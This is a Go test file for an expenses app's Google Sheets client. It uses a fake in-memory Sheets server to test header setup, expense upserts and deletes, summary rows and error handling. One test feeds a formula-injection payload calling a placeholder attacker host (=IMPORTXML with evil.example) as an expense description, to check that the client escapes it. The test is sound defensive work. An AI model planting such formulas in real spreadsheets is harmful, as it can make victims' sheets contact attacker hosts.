package google

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/uuid"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	goption "google.golang.org/api/option"

	"expenses/internal/core"
	ports "expenses/internal/sheets"
)

const spreadsheetID = "test-spreadsheet"

// fakeSheets serves the subset of the Sheets v4 REST API the client uses,
// backed by one in-memory grid per tab.
type fakeSheets struct {
	mu       sync.Mutex
	grids    map[string][][]any
	sheetIDs map[string]int64
	failWith int
	// inputs records the valueInputOption of every write.
	inputs []string
}

func newFakeSheets() *fakeSheets {
	return &fakeSheets{
		grids:    map[string][][]any{"Expenses": nil, "Summary": nil},
		sheetIDs: map[string]int64{"Expenses": 0, "Summary": 7},
	}
}

func (f *fakeSheets) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	f.mu.Lock()
	defer f.mu.Unlock()

	if f.failWith != 0 {
		w.WriteHeader(f.failWith)
		fmt.Fprintf(w, `{"error":{"code":%d,"message":"forced"}}`, f.failWith)
		return
	}

	rest, ok := strings.CutPrefix(r.URL.Path, "/v4/spreadsheets/"+spreadsheetID)
	if !ok {
		http.NotFound(w, r)
		return
	}

	switch {
	case rest == "" && r.Method == http.MethodGet:
		f.spreadsheet(w)
	case rest == ":batchUpdate" && r.Method == http.MethodPost:
		f.batchUpdate(w, r)
	case strings.HasPrefix(rest, "/values/"):
		rng := strings.TrimPrefix(rest, "/values/")
		switch {
		case strings.HasSuffix(rng, ":append"):
			f.appendRows(w, r, strings.TrimSuffix(rng, ":append"))
		case r.Method == http.MethodGet:
			f.get(w, rng)
		case r.Method == http.MethodPut:
			f.update(w, r, rng)
		}
	default:
		http.NotFound(w, r)
	}
}

// parseRange splits "Tab!A5:G5" into the tab and the first row (0 when open).
func parseRange(rng string) (string, int) {
	sheet, cells, _ := strings.Cut(rng, "!")
	start, _, _ := strings.Cut(cells, ":")
	digits := strings.TrimLeft(start, "ABCDEFGHIJKLMNOPQRSTUVWXYZ")
	row, _ := strconv.Atoi(digits)
	return sheet, row
}

func (f *fakeSheets) get(w http.ResponseWriter, rng string) {
	sheet, row := parseRange(rng)
	grid := f.grids[sheet]
	var values [][]any
	switch {
	case row == 0:
		for _, r := range grid {
			if len(r) == 0 {
				values = append(values, []any{})
				continue
			}
			values = append(values, []any{r[0]})
		}
	case row <= len(grid):
		values = [][]any{grid[row-1]}
	}
	writeJSON(w, map[string]any{"range": rng, "values": values})
}

func (f *fakeSheets) update(w http.ResponseWriter, r *http.Request, rng string) {
	var body struct {
		Values [][]any `json:"values"`
	}
	_ = json.NewDecoder(r.Body).Decode(&body)
	f.inputs = append(f.inputs, r.URL.Query().Get("valueInputOption"))
	sheet, row := parseRange(rng)
	for len(f.grids[sheet]) < row {
		f.grids[sheet] = append(f.grids[sheet], nil)
	}
	f.grids[sheet][row-1] = body.Values[0]
	writeJSON(w, map[string]any{"updatedRange": rng})
}

func (f *fakeSheets) appendRows(w http.ResponseWriter, r *http.Request, rng string) {
	var body struct {
		Values [][]any `json:"values"`
	}
	_ = json.NewDecoder(r.Body).Decode(&body)
	f.inputs = append(f.inputs, r.URL.Query().Get("valueInputOption"))
	sheet, _ := parseRange(rng)
	f.grids[sheet] = append(f.grids[sheet], body.Values...)
	n := len(f.grids[sheet])
	writeJSON(w, map[string]any{"updates": map[string]any{"updatedRange": fmt.Sprintf("%s!A%d", sheet, n)}})
}

func (f *fakeSheets) spreadsheet(w http.ResponseWriter) {
	var sheets []map[string]any
	for title, id := range f.sheetIDs {
		sheets = append(sheets, map[string]any{"properties": map[string]any{"title": title, "sheetId": id}})
	}
	writeJSON(w, map[string]any{"sheets": sheets})
}

func (f *fakeSheets) batchUpdate(w http.ResponseWriter, r *http.Request) {
	var body struct {
		Requests []struct {
			DeleteDimension struct {
				Range struct {
					SheetID    int64 `json:"sheetId"`
					StartIndex int   `json:"startIndex"`
					EndIndex   int   `json:"endIndex"`
				} `json:"range"`
			} `json:"deleteDimension"`
		} `json:"requests"`
	}
	_ = json.NewDecoder(r.Body).Decode(&body)
	for _, req := range body.Requests {
		rg := req.DeleteDimension.Range
		for title, id := range f.sheetIDs {
			if id != rg.SheetID {
				continue
			}
			grid := f.grids[title]
			f.grids[title] = append(grid[:rg.StartIndex], grid[rg.EndIndex:]...)
		}
	}
	writeJSON(w, map[string]any{"spreadsheetId": spreadsheetID})
}

func (f *fakeSheets) fail(code int) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.failWith = code
}

func (f *fakeSheets) dropSheet(title string) {
	f.mu.Lock()
	defer f.mu.Unlock()
	delete(f.sheetIDs, title)
}

func (f *fakeSheets) grid(title string) [][]any {
	f.mu.Lock()
	defer f.mu.Unlock()
	return append([][]any(nil), f.grids[title]...)
}

func (f *fakeSheets) inputOptions() []string {
	f.mu.Lock()
	defer f.mu.Unlock()
	return append([]string(nil), f.inputs...)
}

func writeJSON(w http.ResponseWriter, v any) {
	w.Header().Set("Content-Type", "application/json")
	_ = json.NewEncoder(w).Encode(v)
}

func newTestClient(t *testing.T) (*Client, *fakeSheets) {
	t.Helper()
	fake := newFakeSheets()
	srv := httptest.NewServer(fake)
	t.Cleanup(srv.Close)

	c, err := New(context.Background(), Config{SpreadsheetID: spreadsheetID},
		goption.WithEndpoint(srv.URL+"/"),
		goption.WithoutAuthentication(),
		goption.WithHTTPClient(srv.Client()))
	require.NoError(t, err)
	return c, fake
}

func testExpense(amount string) core.Expense {
	ts := time.Date(2024, 5, 1, 12, 0, 0, 0, time.UTC)
	return core.Expense{
		ID:          uuid.New(),
		Amount:      core.MustParseMoney(amount),
		Category:    core.Shopping,
		Description: "shoes",
		Date:        core.NewDate(2024, 5, 1),
		CreatedAt:   ts,
		UpdatedAt:   ts,
	}
}

func TestNewRequiresSpreadsheetID(t *testing.T) {
	_, err := New(context.Background(), Config{})
	assert.EqualError(t, err, "missing spreadsheet id")
}

func TestNewRequiresCredentials(t *testing.T) {
	t.Setenv("GOOGLE_APPLICATION_CREDENTIALS", "")
	_, err := New(context.Background(), Config{SpreadsheetID: "x"})
	require.Error(t, err)
	assert.Contains(t, err.Error(), "missing service account credentials")

	_, err = New(context.Background(), Config{SpreadsheetID: "x", CredentialsFile: "/nonexistent/key.json"})
	assert.ErrorContains(t, err, "read service account file")
}

func TestEnsureHeaders(t *testing.T) {
	c, fake := newTestClient(t)
	ctx := context.Background()

	require.NoError(t, c.EnsureHeaders(ctx))
	require.NoError(t, c.EnsureHeaders(ctx))

	require.Len(t, fake.grid("Expenses"), 1)
	assert.Equal(t, "ID", fake.grid("Expenses")[0][0])
	require.Len(t, fake.grid("Summary"), 1)
	assert.Equal(t, "Year", fake.grid("Summary")[0][0])
}

func TestUpsertAndRemoveExpense(t *testing.T) {
	c, fake := newTestClient(t)
	ctx := context.Background()
	require.NoError(t, c.EnsureHeaders(ctx))

	a, b := testExpense("10"), testExpense("20")
	ref, err := c.UpsertExpense(ctx, a)
	require.NoError(t, err)
	assert.Equal(t, "Expenses!A2", ref)
	_, err = c.UpsertExpense(ctx, b)
	require.NoError(t, err)

	a.Amount = core.MustParseMoney("15.5")
	ref, err = c.UpsertExpense(ctx, a)
	require.NoError(t, err)
	assert.Equal(t, "Expenses!A2:G2", ref)

	grid := fake.grid("Expenses")
	require.Len(t, grid, 3)
	assert.Equal(t, a.ID.String(), grid[1][0])
	assert.Equal(t, "15.50", grid[1][4])

	require.NoError(t, c.RemoveExpense(ctx, a.ID))
	require.NoError(t, c.RemoveExpense(ctx, uuid.New()))

	grid = fake.grid("Expenses")
	require.Len(t, grid, 2)
	assert.Equal(t, b.ID.String(), grid[1][0])
}

func TestUpsertExpenseEscapesFormulaDescription(t *testing.T) {
	c, fake := newTestClient(t)
	ctx := context.Background()

	e := testExpense("9.99")
	e.Description = `=IMPORTXML("http://evil.example","//a")`
	_, err := c.UpsertExpense(ctx, e)
	require.NoError(t, err)
	assert.Equal(t, `'=IMPORTXML("http://evil.example","//a")`, fake.grid("Expenses")[0][3])

	e.Description = "007"
	_, err = c.UpsertExpense(ctx, e)
	require.NoError(t, err)

	grid := fake.grid("Expenses")
	require.Len(t, grid, 1)
	assert.Equal(t, "'007", grid[0][3])
	assert.Equal(t, "9.99", grid[0][4])
	assert.Equal(t, []string{"USER_ENTERED", "USER_ENTERED"}, fake.inputOptions())
}

func TestAppendSummary(t *testing.T) {
	c, fake := newTestClient(t)

	report := core.NewMonthlyReport(
		core.NewMonthlySummary(2024, 4, []core.CategoryBreakdown{{Category: core.Food, Total: core.MustParseMoney("12"), Count: 1}}),
		core.MonthTotal{Year: 2024, Month: 3, TotalAmount: core.Zero},
	)
	ref, err := c.AppendSummary(context.Background(), report)
	require.NoError(t, err)
	assert.Equal(t, "Summary!A1", ref)

	row := fake.grid("Summary")[0]
	assert.Equal(t, float64(2024), row[0])
	assert.Equal(t, "12.00", row[2])
	assert.Equal(t, "Food", row[7])
}

func TestErrorsClassified(t *testing.T) {
	c, fake := newTestClient(t)
	ctx := context.Background()

	fake.fail(http.StatusForbidden)
	_, err := c.UpsertExpense(ctx, testExpense("1"))
	assert.ErrorIs(t, err, ports.ErrRejected)

	fake.fail(http.StatusServiceUnavailable)
	_, err = c.UpsertExpense(ctx, testExpense("1"))
	require.Error(t, err)
	assert.False(t, errors.Is(err, ports.ErrRejected))

	fake.fail(0)
	fake.dropSheet("Expenses")
	e := testExpense("1")
	_, err = c.UpsertExpense(ctx, e)
	require.NoError(t, err)
	assert.ErrorIs(t, c.RemoveExpense(ctx, e.ID), ports.ErrRejected)
}
